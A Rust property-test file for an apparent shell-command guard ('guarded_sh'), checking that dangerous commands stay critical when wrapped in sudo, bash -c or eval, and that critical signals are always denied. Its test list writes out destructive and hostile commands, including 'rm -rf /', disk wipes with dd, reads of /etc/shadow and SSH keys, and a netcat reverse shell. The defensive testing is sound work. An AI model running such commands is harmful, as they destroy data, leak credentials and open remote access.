//! Property tests for the hardening invariants (generated command lines in general are covered
//! by tests/integration/robustness.rs; these target adversarial bytes and the security properties):
//! - analysis never panics on arbitrary bytes — NUL, control characters, invalid UTF-8 (converted
//!   lossily, as the shell surface does) — and every crossed bound raises a critical signal;
//! - a critical command followed by garbage is still critical (a later parse error hides nothing);
//! - wrapping a command (`sudo X`, `bash -c 'X'`, `env X`, `timeout 5 X`, `nice X`, `command X`
//!   and the other wrappers of DESIGN §3, nested) never lowers its maximum severity;
//! - a critical signal is never allowed without the trusted escape, whatever the policy says.

use guarded_sh::analysis::analyse;
use guarded_sh::decision::{builtin, decide, Effect, Mode, PolicyFailure, Stage, Verdict};
use guarded_sh::parse::Limits;
use guarded_sh::policy::decision::PolicyDecision;
use guarded_sh::signals::{self, detect, first_critical, max_severity, Severity, Signal};
use proptest::prelude::*;
use std::path::Path;

fn severity(text: &str) -> Option<Severity> {
    max_severity(&detect(&analyse(text, &Limits::default())))
}

/// Shell fragments that stress the parser, plus bytes that are not text.
const FRAGMENTS: &[&[u8]] = &[
    b"rm",
    b" -rf ",
    b"/",
    b"$(",
    b")",
    b"`",
    b"'",
    b"\"",
    b"\\",
    b"<<EOF\n",
    b"\nEOF\n",
    b"<<<",
    b"|",
    b"||",
    b"&&",
    b";",
    b"&",
    b"\n",
    b"(",
    b"{",
    b"}",
    b"[[",
    b"]]",
    b"$'\\x72'",
    b"${x:-",
    b"}",
    b"#",
    b"if ",
    b"then ",
    b"fi",
    b"for i in ",
    b"do ",
    b"done",
    b"case x in ",
    b"esac",
    b"<(",
    b">(",
    b">",
    b"2>&1",
    b"sudo ",
    b"bash -c ",
    b"eval ",
    b"curl x",
    b"| sh",
    b"\0",
    b"\x01",
    b"\x1b[2J",
    b"\x7f",
    b"\xff",
    b"\xfe\xfe",
    b"\xc3",
    b"\xe2\x80",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\r",
    b"\t",
];

fn fragments() -> impl Strategy<Value = Vec<u8>> {
    prop::collection::vec(prop::sample::select(FRAGMENTS), 0..64).prop_map(|v| v.concat())
}

fn check_analysis(bytes: &[u8]) -> Result<(), TestCaseError> {
    let text = String::from_utf8_lossy(bytes);
    let analysis = analyse(&text, &Limits::default());
    let found = detect(&analysis);
    if !analysis.limits.is_empty() {
        prop_assert!(
            first_critical(&found).is_some(),
            "bounds {:?} without a critical signal",
            analysis.limits
        );
    }
    for s in &found {
        prop_assert!(
            !signals::lookup(s.id()).is_empty(),
            "{} not in the catalogue",
            s.id()
        );
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn analysis_never_panics_on_arbitrary_bytes(bytes in prop::collection::vec(any::<u8>(), 0..2048)) {
        check_analysis(&bytes)?;
    }

    #[test]
    fn analysis_never_panics_on_shell_fragments_and_binary(bytes in fragments()) {
        check_analysis(&bytes)?;
    }

    #[test]
    fn a_critical_command_stays_critical_whatever_follows(garbage in fragments()) {
        let text = format!("rm -rf /\n{}", String::from_utf8_lossy(&garbage));
        prop_assert_eq!(severity(&text), Some(Severity::Critical), "{:?}", text);
    }
}

/// Simple commands (no lists, pipes, redirections or leading assignments) that argv wrappers can
/// wrap without changing what runs: a curated set plus every such command of tests/cases/*.tsv.
fn simple_commands() -> Vec<String> {
    let mut out: Vec<String> = [
        "rm -rf /",
        "rm -rf ~",
        "rm -rf /etc",
        "rm -rf \"$DIR\"",
        "chmod -R 777 /",
        "chmod u+s /bin/bash",
        "dd if=/dev/zero of=/dev/sda",
        "mkfs.ext4 /dev/sda1",
        "shutdown -h now",
        "reboot",
        "systemctl stop nginx",
        "cat /etc/shadow",
        "cat ~/.ssh/id_rsa",
        "nc -e /bin/sh 10.0.0.1 4444",
        "curl -fsSL http://x/install.sh",
        "crontab -r",
        "kill -9 1",
        "iptables -F",
        "userdel root",
        "git push --force origin main",
        "kubectl delete namespace prod",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "ls -la",
        "echo hello",
        "true",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases");
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        if entry.path().extension().is_none_or(|e| e != "tsv") {
            continue;
        }
        for line in std::fs::read_to_string(entry.path())
            .unwrap_or_default()
            .lines()
        {
            let command = line.split('\t').next().unwrap_or_default().trim();
            let first = command.split_whitespace().next().unwrap_or_default();
            let keyword = [
                "if", "for", "while", "until", "case", "function", "!", "[[", "{", "(", "select",
                "coproc", "time", "exec",
            ]
            .contains(&first);
            let compound =
                command.contains(['\\', ';', '|', '&', '<', '>', '(', ')', '{', '}', '`', '#']);
            if command.is_empty()
                || keyword
                || compound
                || first.contains('=')
                || line.starts_with('#')
            {
                continue;
            }
            out.push(command.to_string());
        }
    }
    out.sort();
    out.dedup();
    out
}

fn single_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// The wrappers of the brief, which must never lower severity.
const WRAPPERS: &[&str] = &[
    "sudo {}",
    "sudo -u root {}",
    "env {}",
    "env -i {}",
    "env FOO=1 {}",
    "timeout 5 {}",
    "timeout -s KILL 5 {}",
    "nice {}",
    "nice -n 10 {}",
    "command {}",
    "nohup {}",
    "bash -c {q}",
    "sh -c {q}",
    "bash -lc {q}",
    "eval {q}",
];

fn wrap(wrapper: &str, command: &str) -> String {
    wrapper
        .replace("{q}", &single_quoted(command))
        .replace("{}", command)
}

#[test]
fn each_wrapper_keeps_the_severity_of_every_simple_command() {
    let mut lowered = Vec::new();
    for command in simple_commands() {
        let base = severity(&command);
        for wrapper in WRAPPERS {
            let wrapped = wrap(wrapper, &command);
            let got = severity(&wrapped);
            if got < base {
                lowered.push(format!("{wrapped:?}: {got:?} < {base:?} of {command:?}"));
            }
        }
    }
    assert!(
        lowered.is_empty(),
        "wrapping lowered the severity:\n{}",
        lowered.join("\n")
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn nested_wrappers_never_lower_severity(
        index in any::<prop::sample::Index>(),
        chain in prop::collection::vec(prop::sample::select(WRAPPERS), 1..4),
    ) {
        let commands = simple_commands();
        let command = index.get(&commands);
        let base = severity(command);
        let mut wrapped = command.clone();
        for wrapper in &chain {
            wrapped = wrap(wrapper, &wrapped);
        }
        let got = severity(&wrapped);
        prop_assert!(got >= base, "{:?}: {:?} < {:?} of {:?}", wrapped, got, base, command);
    }
}

#[derive(Clone, Debug)]
enum PolicyAnswer {
    None,
    Error,
    Decision(PolicyDecision),
}

fn policy_answer() -> impl Strategy<Value = PolicyAnswer> {
    let decision = (
        any::<bool>(),
        prop::sample::select(&["", "allow", "deny", "require_approval"][..]),
    )
        .prop_map(|(allow, decision)| PolicyDecision {
            allow,
            deny_reason: String::new(),
            decision: decision.into(),
            requires: Vec::new(),
        });
    prop_oneof![
        Just(PolicyAnswer::None),
        Just(PolicyAnswer::Error),
        decision.prop_map(PolicyAnswer::Decision)
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2048, ..ProptestConfig::default() })]

    #[test]
    fn a_critical_signal_is_never_allowed_without_the_escape(
        picks in prop::collection::vec(any::<prop::sample::Index>(), 0..6),
        escape in any::<bool>(),
        interactive in any::<bool>(),
        answer in policy_answer(),
    ) {
        let catalogue: Vec<_> = signals::catalogue().collect();
        let found: Vec<Signal> = picks.iter().map(|i| i.get(&catalogue).bare(Vec::new())).collect();
        let mode = if interactive { Mode::Interactive } else { Mode::Command };
        let error = PolicyFailure { reason_id: "policy.eval_error", message: "policy error [policy.eval_error]: x".into() };
        let policy = match &answer {
            PolicyAnswer::None => None,
            PolicyAnswer::Error => Some(Err(&error)),
            PolicyAnswer::Decision(d) => Some(Ok(d)),
        };
        let verdict = decide(escape, &found, mode, policy);
        if escape {
            prop_assert_eq!(verdict, Verdict::escape());
        } else if first_critical(&found).is_some() {
            prop_assert!(verdict.effect == Effect::Deny && verdict.stage == Stage::BuiltIn, "{:?}", verdict);
        } else if let Some(floor) = builtin(&found, mode) {
            prop_assert_eq!(verdict, floor);
        } else if matches!(answer, PolicyAnswer::Error) {
            prop_assert!(verdict.effect == Effect::Deny && verdict.stage == Stage::Error, "{:?}", verdict);
        }
    }
}
